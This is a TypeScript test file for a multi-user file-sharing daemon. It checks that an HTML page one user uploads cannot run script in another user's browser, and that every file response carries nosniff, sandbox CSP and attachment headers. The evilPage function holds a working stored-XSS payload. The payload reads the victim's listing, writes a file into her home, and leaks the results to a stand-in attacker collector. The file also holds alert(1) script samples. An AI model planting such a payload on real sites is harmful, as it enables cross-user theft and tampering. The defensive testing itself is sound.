// What one user stores stays inert for everyone else who opens it: in the tilde layout every share
// is one origin, so an HTML file is the classic stored attack. Proven in a real browser (Chromium)
// against the real daemon, plus the headers every file response carries.

import assert from 'node:assert/strict';
import { chmodSync, existsSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { dumpDom } from '../support/browser';
import { Daemon, request, startDaemon } from '../support/daemon';
import { TestUsers, createUsers } from '../support/users';

// Plain HTTP on port 80 so that Chromium, told to resolve it to the daemon, sends Host as configured.
const CONTENT_HOST = 'files.example.org';
const CONTENT_ORIGIN = `http://${CONTENT_HOST}`;
// Without the headers the attack below completes in about a second; a download never settles.
const BROWSER_WAIT_MS = 10_000;

let users: TestUsers;
let daemon: Daemon;

before(async () => {
  users = createUsers();
  // Bob's share is open to others (the attack needs alice to be able to open his page).
  chmodSync(users.bob.home, 0o755);
  daemon = await startDaemon({
    layout: 'tilde',
    extra: { server: [`content_origin = "${CONTENT_ORIGIN}"`] },
  });
});
after(async () => {
  await daemon.stop();
  users.remove();
});

/** The attacker's own server: whatever bob's script manages to send out arrives here. */
async function startCollector(): Promise<{ port: number; received: string[]; close(): Promise<void> }> {
  const received: string[] = [];
  const server = http.createServer((req, res) => {
    received.push(decodeURIComponent(req.url ?? ''));
    res.writeHead(204);
    res.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    port: (server.address() as AddressInfo).port,
    received,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

/** Bob's page: reads alice's listing and writes into her home with the credentials her browser holds. */
function evilPage(alice: string, collectorPort: number): string {
  return `<!DOCTYPE html><html><body><p id="out">not run</p><script>
var out = {};
try {
  var list = new XMLHttpRequest();
  list.open('GET', '/~${alice}/', false);
  list.send();
  out.listing = list.status + ' ' + list.responseText.indexOf('alice-secret-plans');
} catch (e) { out.listing = 'blocked ' + e.name; }
try {
  var put = new XMLHttpRequest();
  put.open('PUT', '/~${alice}/pwned.txt', false);
  put.send('bob was here');
  out.put = String(put.status);
} catch (e) { out.put = 'blocked ' + e.name; }
document.getElementById('out').textContent = 'ran: ' + JSON.stringify(out);
new Image().src = 'http://127.0.0.1:${collectorPort}/leak?' + encodeURIComponent(JSON.stringify(out));
</script></body></html>`;
}

describe('a page bob uploads, opened by alice', () => {
  let collector: Awaited<ReturnType<typeof startCollector>>;
  before(async () => {
    const { alice, bob } = users;
    writeFileSync(join(alice.home, 'alice-secret-plans.txt'), 'private\n');
    collector = await startCollector();
    const put = await request(daemon, `/~${bob.name}/evil.html`, {
      method: 'PUT',
      body: evilPage(alice.name, collector.port),
      user: bob,
    });
    assert.equal(put.status, 201);
  });
  after(() => collector.close());

  /** Alice's browser, holding her credentials, opens bob's page on `host` (resolved to the daemon). */
  async function openAsAlice(host: string): Promise<string> {
    const { alice, bob } = users;
    const credentials = `${encodeURIComponent(alice.name)}:${encodeURIComponent(alice.password)}`;
    return dumpDom(`http://${credentials}@${host}/~${bob.name}/evil.html`, {
      timeoutMs: BROWSER_WAIT_MS,
      flags: [`--host-resolver-rules=MAP ${CONTENT_HOST}:80 127.0.0.1:${daemon.port}`],
    });
  }

  function assertNothingHappened(dom: string): void {
    assert.doesNotMatch(dom, /<p id="out">ran: /, "bob's script never ran in alice's browser");
    assert.deepEqual(collector.received, [], 'nothing reached the attacker');
    assert.equal(existsSync(join(users.alice.home, 'pwned.txt')), false, 'no file was put into her home');
  }

  test("on the shared origin it downloads instead: nothing reads alice's listing or writes her home", async () => {
    assertNothingHappened(await openAsAlice(`127.0.0.1:${daemon.port}`));
  });

  test('on the content origin it displays, sandboxed: its script does not run', async () => {
    const dom = await openAsAlice(CONTENT_HOST);
    assert.match(dom, /<p id="out">not run<\/p>/, 'the page itself was shown');
    assertNothingHappened(dom);
  });
});

describe('headers of user content', () => {
  before(async () => {
    const { bob } = users;
    for (const [name, body] of [
      ['note.txt', 'plain text\n'],
      ['drawing.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
      ['page.html', '<script>alert(1)</script>'],
      ['app.js', 'alert(1)'],
      ['data.xml', '<x/>'],
      ['blob', '<html><script>alert(1)</script></html>'],
    ]) {
      const put = await request(daemon, `/~${bob.name}/${name}`, { method: 'PUT', body, user: bob });
      assert.equal(put.status, 201, name);
    }
  });

  test('every file is sent with nosniff and a sandbox CSP, whole or in part', async () => {
    const { alice, bob } = users;
    for (const name of ['note.txt', 'drawing.svg', 'page.html', 'app.js', 'data.xml', 'blob']) {
      for (const headers of [{}, { Range: 'bytes=0-3' }] as Record<string, string>[]) {
        const get = await request(daemon, `/~${bob.name}/${name}`, { user: alice, headers });
        assert.ok(get.status === 200 || get.status === 206, `${name}: ${get.status}`);
        assert.equal(get.headers['x-content-type-options'], 'nosniff', name);
        assert.equal(get.headers['content-security-policy'], 'sandbox', name);
      }
      const head = await request(daemon, `/~${bob.name}/${name}`, { method: 'HEAD', user: alice });
      assert.equal(head.headers['content-security-policy'], 'sandbox', `HEAD ${name}`);
    }
  });

  test('active types (HTML, SVG, XML, JavaScript) download as attachments; passive ones do not', async () => {
    const { alice, bob } = users;
    for (const name of ['drawing.svg', 'page.html', 'app.js', 'data.xml']) {
      const get = await request(daemon, `/~${bob.name}/${name}`, { user: alice });
      assert.equal(
        get.headers['content-disposition'],
        `attachment; filename="${name}"; filename*=UTF-8''${name}`,
      );
    }
    for (const name of ['note.txt', 'blob']) {
      const get = await request(daemon, `/~${bob.name}/${name}`, { user: alice });
      assert.equal(get.headers['content-disposition'], undefined, name);
    }
  });

  test('on server.content_origin active types display inline, still sandboxed', async () => {
    const { alice, bob } = users;
    for (const host of [CONTENT_HOST, `${CONTENT_HOST}:80`, CONTENT_HOST.toUpperCase()]) {
      const get = await request(daemon, `/~${bob.name}/page.html`, { user: alice, headers: { Host: host } });
      assert.equal(get.status, 200);
      assert.equal(get.headers['content-disposition'], undefined, host);
      assert.equal(get.headers['content-security-policy'], 'sandbox', host);
      assert.equal(get.headers['x-content-type-options'], 'nosniff', host);
    }
    const elsewhere = await request(daemon, `/~${bob.name}/page.html`, {
      user: alice,
      headers: { Host: `${CONTENT_HOST}:8080` },
    });
    assert.match(String(elsewhere.headers['content-disposition']), /^attachment/);
  });

  test('a collection listing is sent with nosniff and a CSP that allows nothing to run', async () => {
    const { alice, bob } = users;
    const get = await request(daemon, `/~${bob.name}/`, { user: alice });
    assert.equal(get.status, 200);
    assert.match(get.text, /page\.html/);
    assert.equal(get.headers['x-content-type-options'], 'nosniff');
    assert.equal(get.headers['content-security-policy'], "default-src 'none'");
  });
});
